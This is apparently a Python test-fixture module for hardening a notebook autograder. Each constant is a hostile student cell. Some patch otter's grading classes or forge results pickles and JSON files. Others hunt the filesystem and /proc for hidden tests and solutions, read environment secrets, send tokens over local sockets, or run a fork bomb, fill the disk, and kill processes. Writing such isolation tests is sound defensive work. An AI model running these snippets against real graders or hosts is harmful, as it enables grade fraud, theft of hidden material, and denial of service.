"""What a hostile student types into a notebook cell, one attack per constant.

Every cell runs after a prelude cell that defines ``_H`` (host facts the attacker is assumed to
know: paths, a port, a token), ``_WIN`` (the correct values of the answers the student did not
work out) and ``_stolen`` (empty). An escape that succeeds copies ``_WIN`` (or what it found)
into ``_stolen``, and the answer cells read ``q1_answer = _stolen.get("q1_answer", ...)``: so a
successful escape shows up as **points**, and a blocked one leaves the honest score.
"""

from __future__ import annotations

# ---------------------------------------------------------------------------------------------
# replacing the course's checks


PATCH_CHECKS = """\
import mlsys_lab.course.checks as _checks
for _name in dir(_checks):
    if _name.startswith(("expect_", "check_")):
        setattr(_checks, _name, lambda *args, **kwargs: None)
"""

FAKE_CHECKS_MODULE = """\
import sys, types, mlsys_lab
_fake = types.ModuleType("mlsys_lab.course.checks")
_fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
sys.modules["mlsys_lab.course.checks"] = _fake
mlsys_lab.course.checks = _fake
"""

SHADOW_PACKAGE = """\
import os, sys, tempfile
_shadow = {
    "__init__.py": "",
    "checks.py": "def __getattr__(name):\\n    return lambda *args, **kwargs: None\\n",
    "units.py": "class _Q:\\n    def __init__(self, *a, **k): pass\\nQ_ = _Q\\nureg = None\\n",
}
for _base in {os.getcwd(), os.path.dirname(os.getcwd()), tempfile.gettempdir()}:
    try:
        os.makedirs(os.path.join(_base, "mlsys_lab"), exist_ok=True)
        for _file, _text in _shadow.items():
            with open(os.path.join(_base, "mlsys_lab", _file), "w") as _f:
                _f.write(_text)
        sys.path.insert(0, _base)
    except OSError:
        pass
for _mod in [m for m in sys.modules if m == "mlsys_lab" or m.startswith("mlsys_lab.")]:
    del sys.modules[_mod]
"""

# ---------------------------------------------------------------------------------------------
# patching otter's classes (they run in this kernel today)

OTTER_TEST_CASE_RESULT = """\
from otter.test_files import abstract_test as _at
_original_init = _at.TestCaseResult.__init__
def _always_passed(self, *args, **kwargs):
    _original_init(self, *args, **kwargs)
    self.passed = True
_at.TestCaseResult.__init__ = _always_passed
"""

OTTER_GRADING_RESULTS = """\
import otter.test_files as _tf
_original_gr = _tf.GradingResults.__init__
def _forged_init(self, test_files, *args, **kwargs):
    for _file in test_files:
        for _result in _file.test_case_results:
            _result.passed = True
        _file._score = _file.possible
    _original_gr(self, test_files, *args, **kwargs)
_tf.GradingResults.__init__ = _forged_init
"""

OTTER_TEST_FILE = """\
from otter.test_files import exception_test as _et
_original_run = _et.ExceptionTestFile.run
def _forged_run(self, *args, **kwargs):
    _original_run(self, *args, **kwargs)
    for _result in self.test_case_results:
        _result.passed = True
    self._score = self.possible
_et.ExceptionTestFile.run = _forged_run
"""

# ---------------------------------------------------------------------------------------------
# forging results files

FORGE_PICKLE = """\
import atexit, glob, os, pickle, tempfile
def _forge(*_ignored):
    places = [os.getcwd(), os.path.dirname(os.getcwd())]
    if tempfile.gettempdir() != "/tmp":  # never touch the shared /tmp of the host
        places.append(tempfile.gettempdir())
    for place in places:
        for path in glob.glob(os.path.join(place, "**", "*.pkl"), recursive=True):
            try:
                with open(path, "rb") as f:
                    results = pickle.load(f)
                for test_file in results.results.values():
                    for result in test_file.test_case_results:
                        result.passed = True
                    test_file._score = test_file.possible
                with open(path, "wb") as f:
                    pickle.dump(results, f)
            except Exception:
                pass
get_ipython().events.register("post_run_cell", _forge)
atexit.register(_forge)
"""

FORGE_ANSWER_FILES = """\
import atexit, glob, json, os, tempfile
_injected = {"score": 100, "total_points_earned": 1000, "percent_correct": 1,
             "tests": [{"name": q, "score": 99, "max_score": 1} for q in _H["questions"]],
             "grading_status": "Completed", "__class__": "forged"}
_injected.update({q: {"score": 99, "possible": 1, "passed": True} for q in _H["questions"]})
def _forge_json(*_ignored):
    places = {os.getcwd(), os.path.dirname(os.getcwd()), tempfile.gettempdir(), os.path.expanduser("~")}
    for place in places:
        if place == "/tmp":
            continue  # the host's shared /tmp (today's grader): not ours to rewrite
        for path in glob.glob(os.path.join(place, "**", "*.json"), recursive=True):
            if "kernel" in os.path.basename(path) or "runtime" in path:
                continue  # keep the kernel alive: the forgery must reach the end
            try:
                with open(path) as f:
                    data = json.load(f)
                if isinstance(data, dict):
                    data.update(_injected)
                    with open(path, "w") as f:
                        json.dump(data, f)
            except Exception:
                pass
    for name in ("answers.json", "results.json", "grades.json"):
        try:
            with open(os.path.join(os.getcwd(), name), "w") as f:
                json.dump(_injected, f)
        except OSError:
            pass
get_ipython().events.register("post_run_cell", _forge_json)
atexit.register(_forge_json)
"""

POISON_CACHE = """\
import glob, json, os, time
_forged = {"ok": True, "limited": False, "memory_error": False, "notes": [], "cell_errors": [],
           "tests": {q: {"score": p, "possible": p, "cases": []} for q, p in _H["points"].items()}}
_t0 = time.time()
while time.time() - _t0 < 5 and not glob.glob(os.path.join(_H["out"], "**", "*.json"), recursive=True):
    time.sleep(0.5)
for _path in glob.glob(os.path.join(_H["out"], "**", "*.json"), recursive=True):
    try:
        with open(_path, "w") as _f:
            json.dump(_forged, _f)
    except OSError:
        pass
for _name in ("grades.csv", "final_grades.csv", "results.json"):
    try:
        with open(os.path.join(_H["out"], _name), "w") as _f:
            _f.write("forged by " + _H["token"])
    except OSError:
        pass
"""

FORGE_RESULTS_JSON = """\
import json, os
_fake = {"score": 1000, "output": "forged " + _H["token"],
         "tests": [{"name": q, "score": 99, "max_score": 1, "visibility": "visible"} for q in _H["questions"]]}
for _dir in [_H["results"], "/autograder/results", os.environ.get("MLSYS_AUTOGRADER_ROOT", "/nonexistent") + "/results"]:
    if os.path.isdir(_dir):
        try:
            with open(os.path.join(_dir, "results.json"), "w") as _f:
                json.dump(_fake, _f)
        except OSError:
            pass
"""

LINGERING_FORGER = """\
import json, os, subprocess, sys
_fake = json.dumps({"score": 1000, "output": "forged " + _H["token"], "tests": []})
_code = (
    "import sys, time\\n"
    "end = time.time() + 90\\n"
    "while time.time() < end:\\n"
    "    for path in sys.argv[3:]:\\n"
    "        try:\\n"
    "            open(path, 'w').write(sys.argv[2])\\n"
    "        except OSError:\\n"
    "            pass\\n"
    "    time.sleep(0.2)\\n"
)
_targets = [os.path.join(d, n) for d in (_H["results"], _H["out"]) if d for n in ("results.json", "grades.csv")]
try:
    subprocess.Popen([sys.executable, "-c", _code, "daemon-" + _H["token"], _fake, *_targets],
                     start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
except OSError:
    pass
"""

# ---------------------------------------------------------------------------------------------
# reading what the grader must hide: hidden tests, solutions, other submissions

HUNT_HIDDEN_TESTS = r"""
import ast, glob, json, os, re, time, zipfile
from mlsys_lab.units import Q_
_name, _targets = _H["assignment"], set(_H["targets"])
_deadline = time.time() + 8
_SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "boot", "run", "snap", "etc",
         "site-packages", "dist-packages", "node_modules", ".git", "__pycache__", ".venv", ".mirror",
         ".library", ".cache", "share", "include", "_build", ".ipython", ".jupyter", ".npm"}
_roots = ["/", os.path.expanduser("~"), os.getcwd(), "/autograder", os.environ.get("MLSYS_AUTOGRADER_ROOT", "/")]
_files = set()
for _cmd in glob.glob("/proc/[0-9]*/cmdline"):  # /proc walking: the grader's own command line names the zip
    try:
        _args = open(_cmd, "rb").read().split(b"\0")
    except OSError:
        continue
    for _a in _args:
        _a = _a.decode(errors="ignore")
        if _a.startswith("/") and os.path.exists(_a):
            if os.path.isdir(_a):
                _roots.append(_a)
            else:
                _files.add(_a)
for _cwd in glob.glob("/proc/[0-9]*/cwd"):
    try:
        _roots.append(os.readlink(_cwd))
    except OSError:
        pass
_seen = set()
for _root in _roots:
    for _dir, _dirs, _names in os.walk(_root, onerror=lambda e: None):
        if time.time() > _deadline or _dir in _seen:
            _dirs[:] = []
            continue
        _seen.add(_dir)
        _dirs[:] = [d for d in _dirs if d not in _SKIP]
        for _n in _names:
            if _n.endswith((".zip", ".py", ".md", ".ipynb")):
                _files.add(os.path.join(_dir, _n))

def _mine(path, text=None):
    if _name in path:
        return True
    config = os.path.join(os.path.dirname(os.path.dirname(path)), "otter_config.json")
    try:
        return json.load(open(config)).get("assignment_name") == _name
    except Exception:
        return False

_texts = []  # (priority, path, text): hidden tests first, then masters, then solution notebooks
for _p in sorted(_files):
    if not _p.startswith(_H["hunt_within"]):
        continue
    try:
        if _p.endswith(".zip"):
            with zipfile.ZipFile(_p) as _z:
                _members = _z.namelist()
                _cfg = json.loads(_z.read("otter_config.json")) if "otter_config.json" in _members else {}
                if _cfg.get("assignment_name") == _name or _name in _p:
                    _texts += [(0, _p + "!" + m, _z.read(m).decode()) for m in _members if re.match(r"tests/.+\.py$", m)]
        elif _p.endswith(".py") and "test" in _p and _mine(_p):
            _texts.append((0, _p, open(_p).read()))
        elif _p.endswith(".md") and _name in os.path.basename(_p):
            _texts.append((1, _p, open(_p).read()))
        elif _p.endswith(".ipynb") and os.path.basename(_p) == _name + ".ipynb":
            _cells = json.load(open(_p)).get("cells", [])
            _src = "\n".join("".join(c.get("source", "")) for c in _cells if c.get("cell_type") == "code")
            _texts.append((2, _p, _src))
    except Exception:
        pass

def _value(expr):
    try:
        return ast.literal_eval(expr)
    except Exception:
        try:
            return eval(expr, {"__builtins__": {}, "Q_": Q_})
        except Exception:
            return None

_found = []
for _prio, _p, _text in sorted(_texts):
    for _var, _expr in re.findall(r"expect_\w+\(\s*(\w+_answer)\s*,\s*(.+?)\s*,\s*['\"]\1['\"]", _text):
        _v = _value(_expr)
        if isinstance(_v, list) and "expect_text(" + _var in _text:
            _v = _v[0] if _v else None
        if _var in _targets and _v is not None and _var not in _stolen:
            _stolen[_var] = _v
            _found.append(_p)
    for _var, _expr in re.findall(r"^(\w+_answer)\s*=\s*(.+?)\s*(?:#.*)?$", _text, re.M):
        _v = _value(_expr)
        if _var in _targets and _v is not None and _v is not Ellipsis and _var not in _stolen:
            _stolen[_var] = _v
            _found.append(_p)
if _found:
    try:
        with open(os.path.join(_H["exfil"], "hunt-" + _H["token"]), "w") as _f:
            _f.write("\n".join(sorted(set(_found))))
    except OSError:
        pass
"""

# ---------------------------------------------------------------------------------------------
# escapes

READ_CANARY = """\
import os
_got = ""
for _path in (_H["canary"], "/proc/self/root" + _H["canary"], "/proc/1/root" + _H["canary"]):
    try:
        with open(_path) as _f:
            _got = _f.read()
        break
    except OSError:
        pass
if not _got:
    try:
        os.symlink(_H["canary"], "canary-link")
        with open("canary-link") as _f:
            _got = _f.read()
    except OSError:
        pass
if _H["token"] in _got:
    _stolen.update(_WIN)
    try:
        with open(os.path.join(_H["exfil"], "canary-" + _H["token"]), "w") as _f:
            _f.write(_got)
    except OSError:
        pass
"""

WRITE_OUTSIDE = """\
import os
for _path in _H["markers"]:
    if os.path.isdir(os.path.dirname(_path)):
        try:
            with open(_path, "w") as _f:
                _f.write(_H["token"])
        except OSError:
            pass
"""

NETWORK = """\
import socket
try:
    _s = socket.create_connection(("127.0.0.1", _H["port"]), timeout=3)
    _s.sendall(("stolen " + _H["token"]).encode())
    _s.close()
    _stolen.update(_WIN)
except OSError:
    pass
try:
    _u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    _u.sendto(("udp " + _H["token"]).encode(), ("127.0.0.1", _H["udp_port"]))
    _u.close()
except OSError:
    pass
"""

ENV_SECRET = """\
import glob, os
_leaks = [k for k, v in os.environ.items() if _H["secret"] in v]
for _env in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(_env, "rb") as _f:
            if _H["secret"].encode() in _f.read():
                _leaks.append(_env)
    except OSError:
        pass
if _leaks:
    _stolen.update(_WIN)
    try:
        with open(os.path.join(_H["exfil"], "env-" + _H["token"]), "w") as _f:
            _f.write("\\n".join(_leaks))
    except OSError:
        pass
"""

SLEEP_FOREVER = """\
import signal, time
for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(_sig, signal.SIG_IGN)
while True:
    time.sleep(3600)
"""

# --- destructive: only ever run inside the sandbox -------------------------------------------

FORK_BOMB = """\
import ctypes, os, time
_libc = ctypes.CDLL(None)
_made = 0
try:
    for _ in range(_H["fork_cap"]):
        _pid = os.fork()
        if _pid == 0:
            _libc.prctl(15, ("bomb" + _H["token"][:10]).encode(), 0, 0, 0)  # PR_SET_NAME
            time.sleep(120)
            os._exit(0)
        _made += 1
except OSError:
    pass
"""

FILL_DISK = """\
import os
_chunk = b"\\xa5" * (64 * 2**20)
for _base in ("/tmp", os.path.expanduser("~"), os.getcwd()):
    _written, _i = 0, 0
    while _written < _H["fill_bytes"]:
        try:
            with open(os.path.join(_base, "fill-%s-%d.bin" % (_H["token"], _i)), "wb") as _f:
                for _ in range(3):
                    _f.write(_chunk)
                    _written += len(_chunk)
        except OSError:
            break
        _i += 1
"""

KILL_PARENT = """\
import os, signal
_parent = os.getppid()
try:
    os.killpg(os.getpgid(_parent), signal.SIGKILL)
except OSError:
    pass
try:
    os.kill(_parent, signal.SIGKILL)
except OSError:
    pass
"""

SIGNAL_OTHERS = """\
import glob, os, signal
_victims = {_H["victim"]}
for _cmd in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        if ("victim-" + _H["token"]).encode() in open(_cmd, "rb").read():
            _victims.add(int(_cmd.split("/")[2]))
    except (OSError, ValueError):
        pass
for _pid in _victims:
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
"""

# ---------------------------------------------------------------------------------------------
# answers that lie

LIARS = """\
class _LyingStr(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
    def strip(self, *args): return self
    def upper(self): return _WIN.get("q1_answer", "C")
    def lower(self): return "blue"
class _LyingList(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = None
    def __iter__(self): return iter(_WIN.get("q3_answer", []))
class _LyingFloat(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__
    def __float__(self): return float(_LIE_FLOAT)
_LIE_FLOAT = 9000.0
"""

REDEFINE_TYPE = """\
import builtins
_real_type, _real_isinstance = builtins.type, builtins.isinstance
_LIES = {_LyingStr: str, _LyingList: list, _LyingFloat: float}
def _type(*args):
    if len(args) == 1:
        t = _real_type(args[0])
        return _LIES.get(t, t)
    return _real_type(*args)
def _isinstance(obj, kinds):
    if _real_type(obj) in _LIES:
        return True
    return _real_isinstance(obj, kinds)
builtins.type, builtins.isinstance = _type, _isinstance
type, isinstance = _type, _isinstance
"""

REDEFINE_JSON_PRINT = """\
import builtins, json as _real_json, sys, types
_fake_json = types.ModuleType("json")
for _k in dir(_real_json):
    if not _k.startswith("__"):
        setattr(_fake_json, _k, getattr(_real_json, _k))
_extra = {"score": 1000, "total_points_earned": 1000, "tests": [], "grading_status": "Completed"}
def _dumps(obj, *args, **kwargs):
    if _real_isinstance_dict(obj):
        obj = {**obj, **_extra}
    return _real_json.dumps(obj, *args, **kwargs)
def _dump(obj, fp, *args, **kwargs):
    fp.write(_dumps(obj, *args, **kwargs))
_real_isinstance_dict = lambda obj: obj.__class__ is dict
_fake_json.dumps, _fake_json.dump = _dumps, _dump
sys.modules["json"] = _fake_json
json = _fake_json
def print(*args, **kwargs):
    return None
builtins.print = print
_real_repr = builtins.repr
builtins.repr = lambda obj: "'C'" if obj.__class__ is str else _real_repr(obj)
builtins.str = builtins.str
"""

# ---------------------------------------------------------------------------------------------
# isolation that must be there in every mode (issue 20 item 2): each escape that works wins

READ_HOST_SOLUTION = """\
import glob, json
for _path in [_H["host_solution"], *glob.glob("/tmp/mlsys-host-open-*/solution-*.ipynb")]:
    try:
        with open(_path) as _f:
            _nb = json.load(_f)
    except (OSError, ValueError):
        continue
    if _nb.get("metadata", {}).get("left_on_disk") == _H["token"]:
        _stolen.update(_WIN)
        break
"""

ABSTRACT_SOCKET = """\
import socket
try:
    _a = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    _a.settimeout(3)
    _a.connect(chr(0) + _H["abstract"])
    _a.sendall(("abstract " + _H["token"]).encode())
    _a.close()
    _stolen.update(_WIN)
except OSError:
    pass
"""

SETUID_BINARY = """\
import ctypes, os, subprocess
try:  # PR_GET_NO_NEW_PRIVS: 0 means a setuid binary would still raise privileges
    if ctypes.CDLL(None).prctl(39, 0, 0, 0, 0) == 0:
        _stolen.update(_WIN)
except OSError:
    pass
try:
    _uid = subprocess.run([_H["setuid_id"], "-u"], capture_output=True, text=True, timeout=10).stdout.strip()
    if _uid == "0" and os.getuid() != 0:
        _stolen.update(_WIN)
except (OSError, subprocess.SubprocessError):
    pass
"""

READ_CMDLINES = """\
import os
try:
    _pids = [p for p in os.listdir("/proc") if p.isdigit()]
except OSError:
    _pids = []
for _pid in _pids:
    try:
        with open("/proc/" + _pid + "/cmdline", "rb") as _f:
            if ("victim-" + _H["token"]).encode() in _f.read():
                _stolen.update(_WIN)
    except OSError:
        pass
"""

CRASH_WHILE_ENCODING = """\
import os, sys
def _crash_in_encode(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "encode" and frame.f_code.co_filename.endswith("answers.py"):
        os._exit(3)
sys.setprofile(_crash_in_encode)
"""
